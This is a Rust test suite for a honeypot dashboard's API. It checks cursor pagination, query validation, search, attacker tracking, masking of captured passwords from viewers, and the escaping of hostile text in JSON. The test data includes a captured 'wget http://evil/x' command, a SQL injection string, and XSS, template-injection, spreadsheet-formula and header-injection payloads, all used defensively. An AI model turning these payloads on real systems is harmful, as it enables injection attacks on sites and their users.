//! Lists of what was captured: pages, filters, masks, and hostile text that stays inside JSON.

use std::collections::BTreeSet;

use decnet_db::{DeckyState, NewFleetDecky};
use serde_json::{Value, json};

use crate::world::{ADMIN, VIEWER, World, line, login_line};

fn ids(page: &Value) -> Vec<i64> {
    page["data"].as_array().unwrap().iter().map(|row| row["id"].as_i64().unwrap()).collect()
}

#[tokio::test]
async fn pages_by_cursor_are_the_whole_list_while_lines_arrive() {
    let world = World::new().await;
    let viewer = world.login(VIEWER).await;
    world.store((0..120).map(|n| line(n, "198.51.100.7", &format!("cmd {n}"))).collect()).await;
    let whole = ids(&world.get_json("/api/v1/logs?limit=1000", &viewer).await);
    assert_eq!(whole.len(), 120);
    let (mut seen, mut cursor, mut pages) = (Vec::new(), String::new(), 0_u64);
    loop {
        let page = world.get_json(&format!("/api/v1/logs?limit=17&before={cursor}"), &viewer).await;
        seen.extend(ids(&page));
        pages += 1;
        // An intruder does not wait for the reader.
        world.store(vec![line(1000 + pages, "198.51.100.8", "meanwhile")]).await;
        match page["next_before"].as_i64() {
            Some(next) => cursor = next.to_string(),
            None => break,
        }
    }
    assert_eq!(seen, whole);
    assert_eq!(pages, 8);
}

#[tokio::test]
async fn limits_and_absent_filters() {
    let world = World::new().await;
    let viewer = world.login(VIEWER).await;
    world.store((0..3).map(|n| line(n, "198.51.100.7", "x")).collect()).await;
    for list in ["logs", "attackers", "credentials", "sessions", "orchestrator/events"] {
        for (query, status) in [
            ("limit=0", 400),
            ("limit=1", 200),
            ("limit=1000", 200),
            ("limit=1001", 400),
            ("limit=-1", 400),
            ("limit=1.5", 400),
            ("limit=many", 400),
            ("limit=99999999999999999999", 400),
            ("limit=null&offset=undefined", 200),
            ("limit=", 200),
            ("offset=0", 200),
            ("offset=-1", 400),
            ("offset=2147483648", 400),
            ("limit=1&limit=2", 400),
            ("no_such_filter=1", 400),
        ] {
            let response = world.get(&format!("/api/v1/{list}?{query}"), &viewer).await;
            assert_eq!(response.status(), status, "{list}?{query}");
            if status == 400 {
                let problem: Value = response.json().await.unwrap();
                let field = query.split('=').next().unwrap();
                assert!(problem.to_string().contains(field), "{list}?{query}: {problem}");
            }
        }
    }
    let page =
        world.get_json("/api/v1/logs?search=null&start_time=undefined&end_time=&origin=NULL", &viewer).await;
    assert_eq!(page["total"], 3);
    let page = world.get_json("/api/v1/attackers?service=undefined&search=null&sort_by=", &viewer).await;
    assert_eq!(page["total"], 1);
    assert_eq!(world.get("/api/v1/logs?offset=10001", &viewer).await.status(), 400);
    assert_eq!(world.get("/api/v1/logs?start_time=yesterday", &viewer).await.status(), 400);
    assert_eq!(world.get("/api/v1/attackers/x", &viewer).await.status(), 400);
    let nobody = uuid::Uuid::nil();
    for tail in ["", "/commands", "/sessions"] {
        assert_eq!(world.get(&format!("/api/v1/attackers/{nobody}{tail}"), &viewer).await.status(), 404);
    }
}

#[tokio::test]
async fn the_search_language_reaches_the_lines() {
    let world = World::new().await;
    let viewer = world.login(VIEWER).await;
    let mut other = line(2, "203.0.113.9", "uname -a");
    other.decky = "db-01".to_owned();
    world.store(vec![line(1, "198.51.100.7", "wget http://evil/x"), other]).await;
    for (search, hits) in [
        ("decky:db-01", 1),
        ("service:ssh", 2),
        ("attacker:198.51.100.7 wget", 1),
        ("attacker:198.51.100.7 uname", 0),
        ("note:\"uname -a\"", 1),
        ("event:command decky:web-01", 1),
        ("'; DROP TABLE logs; --", 0),
        ("%", 0),
    ] {
        let response = world
            .request(reqwest::Method::GET, "/api/v1/logs", Some(&viewer))
            .query(&[("search", search)])
            .send()
            .await
            .unwrap();
        let page: Value = response.json().await.unwrap();
        assert_eq!(page["total"], hits, "{search}: {page}");
    }
    assert_eq!(world.get(&format!("/api/v1/logs?search={}", "x".repeat(513)), &viewer).await.status(), 400);
    let histogram = world.get_json("/api/v1/logs/histogram?interval_minutes=60", &viewer).await;
    let total: u64 =
        histogram.as_array().unwrap().iter().map(|bucket| bucket["count"].as_u64().unwrap()).sum();
    assert_eq!(total, 2);
    assert_eq!(world.get("/api/v1/logs/histogram?interval_minutes=0", &viewer).await.status(), 400);
}

#[tokio::test]
async fn an_intrusion_shows_everywhere() {
    let world = World::new().await;
    let viewer = world.login(VIEWER).await;
    let mut elsewhere = line(3, "198.51.100.7", "id");
    elsewhere.decky = "db-01".to_owned();
    let lines = vec![
        line(1, "198.51.100.7", "ls"),
        login_line(2, "198.51.100.7", "root", "toor"),
        elsewhere,
        line(4, "203.0.113.9", "w"),
    ];
    world.store(lines).await;
    let attackers = world.get_json("/api/v1/attackers?sort_by=active", &viewer).await;
    assert_eq!(attackers["total"], 2);
    let top = &attackers["data"][0];
    assert_eq!(
        (&top["ip"], &top["event_count"], &top["is_traversal"]),
        (&json!("198.51.100.7"), &json!(3), &json!(true))
    );
    assert_eq!(world.get_json("/api/v1/attackers?sort_by=traversals", &viewer).await["total"], 1);
    assert_eq!(world.get_json("/api/v1/attackers?search=203.0", &viewer).await["total"], 1);
    assert_eq!(world.get_json("/api/v1/attackers?service=redis", &viewer).await["total"], 0);
    let id = top["uuid"].as_str().unwrap();
    let detail = world.get_json(&format!("/api/v1/attackers/{id}"), &viewer).await;
    assert_eq!(detail["traversal_path"], json!(["web-01", "db-01"]));
    assert_eq!(detail["service_activity"]["interacted"], json!(["ssh"]));
    assert!(detail.get("identity_id").is_some());
    let commands = world.get_json(&format!("/api/v1/attackers/{id}/commands"), &viewer).await;
    assert_eq!(commands["total"], 2);
    assert_eq!(world.get(&format!("/api/v1/attackers/{id}/commands?limit=201"), &viewer).await.status(), 400);
    let sessions = world.get_json(&format!("/api/v1/attackers/{id}/sessions"), &viewer).await;
    assert_eq!(sessions["total"], 2);
    assert_eq!(world.get_json("/api/v1/sessions?decky=web-01", &viewer).await["total"], 2);
    assert_eq!(
        world.get_json("/api/v1/sessions?attacker_ip=203.0.113.9&open=true", &viewer).await["total"],
        1
    );
    let stats = world.get_json("/api/v1/stats", &viewer).await;
    assert_eq!((&stats["total_logs"], &stats["unique_attackers"]), (&json!(4), &json!(2)));
}

#[tokio::test]
async fn secrets_are_for_administrators() {
    let world = World::new().await;
    let (admin, viewer) = (world.login(ADMIN).await, world.login(VIEWER).await);
    world.store(vec![login_line(1, "198.51.100.7", "root", "hunter2!secret")]).await;
    for path in [
        "/api/v1/credentials",
        "/api/v1/credentials?limit=10",
        "/api/v1/credentials?search=root",
        "/api/v1/logs",
    ] {
        let seen = world.get_json(path, &admin).await.to_string();
        assert!(seen.contains("hunter2!secret"), "{path} as administrator: {seen}");
        let masked = world.get_json(path, &viewer).await.to_string();
        assert!(!masked.contains("hunter2") && !masked.contains("c2VjcmV0"), "{path} as viewer: {masked}");
        assert!(masked.contains("********"), "{path}: {masked}");
    }
    let row = &world.get_json("/api/v1/credentials", &viewer).await["data"][0];
    assert_eq!(
        (&row["principal"], &row["masked"], &row["secret_len"]),
        (&json!("root"), &json!(true), &json!(14))
    );
    assert_eq!(row["secret_sha256"], Value::Null);
    assert_eq!(world.get_json("/api/v1/credentials?service=redis", &admin).await["total"], 0);
    assert_eq!(world.get_json("/api/v1/credentials?attacker_ip=198.51.100.7", &admin).await["total"], 1);
}

#[tokio::test]
async fn hostile_text_stays_inside_json() {
    let world = World::new().await;
    let admin = world.login(ADMIN).await;
    let corpus = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</script><svg/onload=alert`1`>",
        "javascript:alert(1)",
        "{{constructor.constructor('alert(1)')()}}",
        "=HYPERLINK(\"http://evil\")",
        "\u{202e}gnp.exe\u{1b}[31m\u{7}",
        "\r\nSet-Cookie: a=b\r\n\r\n<html>",
        "data: evil\n\nevent: x\n\n",
        "\u{2028}\u{2029}\u{feff}\u{0}",
    ];
    let lines = corpus.iter().enumerate().map(|(n, text)| line(n as u64, "198.51.100.7", text));
    world.store(lines.collect()).await;
    let attacker =
        world.get_json("/api/v1/attackers", &admin).await["data"][0]["uuid"].as_str().unwrap().to_owned();
    for path in ["/api/v1/logs".to_owned(), format!("/api/v1/attackers/{attacker}/commands")] {
        let response = world.get(&path, &admin).await;
        assert_eq!(response.headers()["content-type"], "application/json");
        assert_eq!(response.headers()["x-content-type-options"], "nosniff");
        assert!(!response.headers().contains_key("set-cookie"));
        let page: Value = response.json().await.unwrap();
        assert_eq!(page["total"], corpus.len(), "{path}");
        let shown: BTreeSet<&str> = page["data"]
            .as_array()
            .unwrap()
            .iter()
            .map(|row| row.get("command").or(row.get("msg")).unwrap().as_str().unwrap())
            .collect();
        for text in corpus {
            // NUL is replaced where text enters the database.
            let kept = text.replace('\0', "\u{fffd}");
            assert!(shown.contains(kept.as_str()), "{path}: {text:?} is told as it was");
        }
    }
}

#[tokio::test]
async fn the_inventory_joins_state_file_and_mirror() {
    let world = World::new().await;
    let viewer = world.login(VIEWER).await;
    let config = json!({
        "schema": 1, "generation": 3, "compose_path": "plan.json",
        "config": {
            "mode": "unihost", "interface": "lo", "subnet": "127.10.0.0/24", "gateway": null,
            "deckies": [{"name": "web-01", "ip": "127.10.0.5", "services": ["ssh", "http"], "distro": "debian",
                "base_image": "debian:bookworm-slim", "hostname": "WEB01"}],
            "log_file": null, "mutate_interval": 30
        }
    });
    std::fs::write(world.dir.path().join("decnet-state.json"), config.to_string()).unwrap();
    let mirrored = |name: &str, state| NewFleetDecky {
        host_uuid: None,
        name: name.to_owned(),
        services: vec!["ssh".to_owned()],
        decky_config: None,
        decky_ip: Some("127.10.0.9".to_owned()),
        state,
        last_error: None,
        compose_hash: None,
        generation: 3,
    };
    world.db.fleet().upsert(mirrored("web-01", DeckyState::Running)).await.unwrap();
    world.db.fleet().upsert(mirrored("old-01", DeckyState::TornDown)).await.unwrap();
    let deckies = world.get_json("/api/v1/deckies", &viewer).await;
    let told: Vec<_> = deckies
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["id"].as_str().unwrap(),
                d["state"].as_str().unwrap(),
                d["deployed"].as_bool().unwrap(),
                &d["ip"],
            )
        })
        .collect();
    assert_eq!(
        told,
        [
            ("local:old-01", "torn_down", false, &json!("127.10.0.9")),
            ("local:web-01", "running", true, &json!("127.10.0.5"))
        ]
    );
    assert_eq!(deckies[1]["hostname"], "WEB01");
}
